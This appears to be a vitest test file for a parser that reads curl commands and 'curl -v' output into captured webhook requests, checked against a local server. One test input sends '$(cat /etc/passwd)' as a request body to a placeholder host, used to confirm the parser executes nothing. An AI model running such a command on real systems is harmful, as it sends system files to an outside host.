import { execFile } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { captureOf, lacks } from '../capture-of.ts';
import { openServer } from '../../support/open-server.ts';

interface Received {
  readonly method: string | undefined;
  readonly path: string | undefined;
  readonly headers: readonly string[];
  readonly body: Buffer;
}

let server: Server;
let base: string;
const received: Received[] = [];
const folder = mkdtempSync(join(tmpdir(), 'leads-curl-'));
const file = join(folder, 'body.json');
const bytes = Buffer.concat([
  Buffer.from('{"id": "lead_1",\r\n "name": "Zoë"}\n'),
  Buffer.from([0xff, 0x80]),
]);
const headerFile = join(folder, 'headers.txt');

beforeAll(async () => {
  writeFileSync(file, bytes);
  writeFileSync(headerFile, 'X-Other: 1\n');
  server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const { method, url, rawHeaders } = request;
      received.push({ method, path: url, headers: rawHeaders, body: Buffer.concat(chunks) });
      response.end('{"status":"accepted"}');
    });
  });
  const opened = await openServer(server);
  base = opened.url;
});
afterAll(() => server.close());

/** What bash makes of a command line, and what it printed. */
function bash(command: string): Promise<string> {
  return new Promise((resolve, reject) => {
    execFile(
      'bash',
      ['-c', command],
      { cwd: folder, env: { ...process.env, LC_ALL: 'C.UTF-8' } },
      (error, stdout, stderr) => {
        if (error) reject(new Error(`${error.message}\n${stderr}`));
        else resolve(stderr + stdout);
      },
    );
  });
}

const namesAdded = ['user-agent', 'content-length', 'connection', 'expect', 'accept'];

const withoutAdded = (pairs: readonly (readonly [string, string])[]): readonly string[] =>
  pairs
    .filter(([name]) => !namesAdded.includes(name.toLowerCase()))
    .map(([name, value]) => `${name.toLowerCase()}: ${value}`)
    .sort();

const pairsOf = (headers: readonly string[]): readonly (readonly [string, string])[] =>
  headers.flatMap((name, i) => (i % 2 === 0 ? [[name, headers[i + 1] ?? ''] as const] : []));

const encoded = bytes.toString('base64');

it.each([
  [
    'a file in its exact bytes',
    'curl -s --data-binary @FILE -H "content-type: application/json" URL/hook?a=1',
  ],
  ['a file without its line breaks', 'curl -sS -d @FILE URL/hook'],
  ['JSON with quotes in quotes', String.raw`curl -s --json '{"id":"O'\''Neil","x":"a\"b"}' URL/hook`],
  ['ANSI-C quotes', String.raw`curl -s URL/hook --data-raw $'{"a":"\'\u00eb\xff\n\t\101"}' -H 'X-A: b'`],
  ['double quotes', String.raw`curl -s "URL/hook" -d "{\"id\": \"x\\y\", \"p\": \"5 \$\"}"`],
  ['several -d', "curl -s URL -d a=1 -d 'b=2' --data-raw '@x'"],
  ['several --json', String.raw`curl -s URL --json '{"a":' --json '1}'`],
  ['letters together, values attached', "curl -ksSXPUT -HX-Token:s3cret -d'{}' URL/x"],
  ['a line that goes on', "curl -s \\\n  -H 'X-Token: s3cret' \\\n  -d '{}' \\\n  --url URL/y"],
  ['a user', "curl -s -u 'me:pass word' -A agent URL/z"],
  ['headers that are removed, and empty', "curl -s -H 'Accept:' -H 'X-Empty;' -H 'Content-Type:' -d x URL"],
  ['a header whose value is a semicolon', "curl -s -H 'X-Odd: ;' -d x URL"],
  [
    'a pipe that decodes base64',
    `printf %s '${encoded}' | base64 -d | curl -s --data-binary @- URL/hook | cat`,
  ],
  ['echo', 'echo \'{"id":1}\' | curl -s --data-binary @- URL/hook'],
  ['echo and base64', `echo ${encoded} | base64 --decode | curl -s --data-binary @- URL/hook`],
  [
    'options that take values',
    "curl -s -o /dev/null -w '%{http_code}' -m 5 --retry 0 --connect-timeout 3 -d a URL",
  ],
  ['output that is redirected', "curl -s -d '{}' URL/r > /dev/null 2>&1"],
  ['a comment behind it', "curl -s -d '{}' URL/c # -d other"],
])('a curl command is read as bash and curl read it: %s', async (_, template) => {
  const command = template.replaceAll('URL', base).replaceAll('FILE', file);
  const before = received.length;
  await bash(command);
  const sent = received[before];
  const capture = await captureOf(command);
  expect(capture.form).toBe('a curl command');
  expect({ ...capture, body: Buffer.from(capture.body ?? []) }).toMatchObject({
    method: sent?.method,
    path: sent?.path,
    body: sent?.body,
  });
  expect(withoutAdded(capture.rawHeaders)).toEqual(withoutAdded(pairsOf(sent?.headers ?? [])));
});

it.each<[string, front: string, flag?: string]>([
  ['at the start', 'COMMAND\n'],
  ['with a time before each line', 'COMMAND\n', '--trace-time'],
  ['behind a prompt', 'me@host:~/work$ COMMAND\n'],
  ['behind the mark of bash -x', '+ COMMAND\n'],
])('what curl -v prints is read with the command in front of it: %s', async (_, front, flag = '') => {
  const command = `curl -v ${flag} --data-binary @${file} -H 'x-webhook-token: s3cret' '${base}/hook?a=1'`;
  const before = received.length;
  const output = await bash(command);
  expect(output).toMatch(flag === '' ? /^> POST \/hook/m : /^\d\S* > POST \/hook/m);
  const capture = await captureOf(front.replace('COMMAND', command) + output);
  expect(capture.body).toEqual(received[before]?.body);
  expect(capture.rawHeaders).toEqual(pairsOf(received[before]?.headers ?? []));
  expect(capture).toMatchObject({ method: 'POST', url: `${base}/hook?a=1`, notes: [] });
  expect(Math.abs((capture.capturedAt ?? 0) - Date.now())).toBeLessThan(60_000);
  const alone = await captureOf(output);
  expect(alone.rawHeaders).toEqual(capture.rawHeaders);
  expect(alone.body).toBeUndefined();
  expect(lacks(alone)).toEqual([expect.stringContaining('give --body FILE')]);
});

it('what curl -v prints over HTTPS with HTTP/2 is read', async () => {
  const dump = [
    '* SSL connection using TLSv1.3 / TLS_AES_256_GCM_SHA384',
    '> POST /hook HTTP/2\r',
    '> Host: hooks.example.com\r',
    '> x-webhook-token: s3cret\r',
    '> \r',
    '< HTTP/2 200 ',
    '< date: Thu, 15 Jan 2026 12:00:00 GMT',
  ];
  expect(await captureOf(dump.join('\n'))).toMatchObject({
    url: 'https://hooks.example.com/hook',
    rawHeaders: [
      ['Host', 'hooks.example.com'],
      ['x-webhook-token', 's3cret'],
    ],
    capturedAt: Date.UTC(2026, 0, 15, 12),
  });
});

it('a variable in a curl command is said to be unknown, and nothing is run', async () => {
  const capture = await captureOf(
    'curl https://a.example/ -H "x-webhook-token: $LEADS_WEBHOOK_TOKEN" -H \'x-b: $5\' --data-binary "$(cat /etc/passwd)"',
  );
  expect(capture.withheld).toEqual(['x-webhook-token']);
  expect(capture.body).toBeUndefined();
  expect(lacks(capture)).toEqual([expect.stringContaining('comes from a variable')]);
});

it.each([
  ["curl URL --data-binary @- <<< '{}'", 'was read from stdin'],
  ['curl URL --data-binary @- <<EOF\n{}\nEOF', 'was read from stdin'],
  ["curl URL --data-urlencode 'a=b c'", 'the bytes that curl sends'],
  ['curl URL -F a=b', 'the bytes that curl sends'],
])('a body that the command does not hold is said to be unknown: %s', async (template, reason) => {
  const capture = await captureOf(template.replace('URL', 'https://a.example/'));
  expect([capture.method, capture.body]).toEqual(['POST', undefined]);
  expect(lacks(capture)).toEqual([
    expect.stringMatching(new RegExp(`${reason}.*: give the body with --body FILE`)),
  ]);
});
